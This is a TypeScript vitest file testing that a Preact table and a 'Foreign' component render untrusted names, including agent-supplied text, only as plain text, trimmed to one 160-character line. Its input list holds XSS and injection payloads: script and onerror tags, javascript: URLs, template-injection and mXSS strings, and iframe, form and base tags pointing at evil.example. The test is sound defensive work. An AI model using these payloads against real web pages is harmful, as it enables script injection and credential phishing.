import { html, render } from 'htm/preact';
import type { VNode } from 'preact';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import type { Vm } from '../../src/page/outputs.ts';
import { type Column, Foreign, Table } from '../../src/page/pieces.ts';
import { foreignLine } from '../../src/page/words.ts';
import { openDocument } from './document.ts';

/** What would be more than text, if anything of it were taken for markup, an attribute, a template or a component. */
const nasty = [
  '<script>alert(1)</script>',
  '<img src=x onerror=alert(1)>',
  '"><svg onload=alert(1)>',
  "' onmouseover='alert(1)",
  '</td></table><h1>approved</h1>',
  '</script><script>alert(1)</script>',
  '<!--',
  '-->',
  ']]>',
  '&lt;b&gt; &amp; &#60;b&#62;',
  '$'.concat('{alert(1)}'),
  '{{constructor.constructor("alert(1)")()}}',
  'javascript:alert(1)',
  'data:text/html,<script>alert(1)</script>',
  '<style>*{display:none}</style>',
  '<iframe src=//evil.example></iframe>',
  '<form action=//evil.example><input name=code>',
  '<base href=//evil.example>',
  '<a href=javascript:alert(1)>Approve</a>',
  '<meta http-equiv=refresh content=0>',
  '<template><b></template>',
  '<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=alert(1)&gt;">',
  '\u202etxt.exe',
  'a\u200bb',
  '\u0000\u0007',
  '𝕬 ﷽ 👨‍👩‍👧‍👦 ä',
  'x'.repeat(5000),
];

/** A generator whose numbers are the same in each run. */
const numbers = (seed: number) => {
  let last = seed;
  return (): number => {
    last = (Math.imul(last, 1_664_525) + 1_013_904_223) >>> 0;
    return last;
  };
};

const names = (count: number): string[] => {
  const next = numbers(7);
  const pick = (): string => nasty[next() % nasty.length]!;
  const cut = (text: string): string => text.slice(next() % (text.length + 1));
  return Array.from({ length: count }, (_, n) => {
    if (n < nasty.length) return nasty[n]!;
    return Array.from({ length: 1 + (next() % 4) }, () => (next() % 3 === 0 ? cut(pick()) : pick())).join(next() % 2 === 0 ? '' : ' ');
  });
};

describe('words that are not ours', () => {
  let opened: ReturnType<typeof openDocument>;
  beforeAll(() => {
    opened = openDocument();
  });
  afterAll(() => opened.close());

  it('10,000 of them are text nodes and nothing else, wherever a table shows them', () => {
    const all = names(10_000);
    const columns: readonly Column<Pick<Vm, 'name' | 'untrustedNodeName'>>[] = [
      ['Name', ({ name }) => name],
      ['Node', ({ untrustedNodeName }) => html`<${Foreign} of="it calls itself" text=${untrustedNodeName}/>`],
      ['Ends', ({ name }) => html`<time datetime=${name} title=${name}>${name}</time>`],
    ];
    const rows = all.map((name) => ({ name, untrustedNodeName: name }));
    const place = opened.document.querySelector<HTMLElement>('#page')!;
    render(
      html`<${Table} caption="x" none="" columns=${columns} rows=${rows} keyOf=${(row: unknown) => rows.indexOf(row as never)}/>` as VNode,
      place,
    );

    const found = new Map<string, number>();
    for (const { localName } of place.querySelectorAll('*')) found.set(localName, (found.get(localName) ?? 0) + 1);
    const each = all.length;
    expect(Object.fromEntries(found)).toEqual({
      div: 1,
      table: 1,
      caption: 1,
      thead: 1,
      tbody: 1,
      tr: each + 1,
      th: each + 3,
      td: each * 2,
      time: each,
      span: each * 2,
      q: each,
    });
    const attributes = new Set([...place.querySelectorAll('*')].flatMap((element) => [...element.attributes].map(({ name }) => name)));
    expect([...attributes].sort()).toEqual(['aria-label', 'class', 'data-head', 'datetime', 'role', 'scope', 'tabindex', 'title']);
    const shown = [...place.querySelectorAll('tbody tr')].map((row) => [
      row.querySelector('th')!.textContent,
      row.querySelector('q')!.textContent,
      row.querySelector('time')!.getAttribute('title'),
    ]);
    expect(shown).toEqual(all.map((name) => [name, foreignLine(name), name]));
  });

  it('are one line of at most 160 characters, behind words that say whose they are', () => {
    const place = opened.document.createElement('div');
    render(html`<${Foreign} of="the agent says" text=${'approve\n\n\t this '.repeat(100)}/>` as VNode, place);
    expect(place.textContent).toMatch(/^the agent says: approve this approve/);
    expect(place.querySelector('q')!.textContent).toHaveLength(160);
    expect(place.textContent).not.toMatch(/[\n\t]/);
  });
});
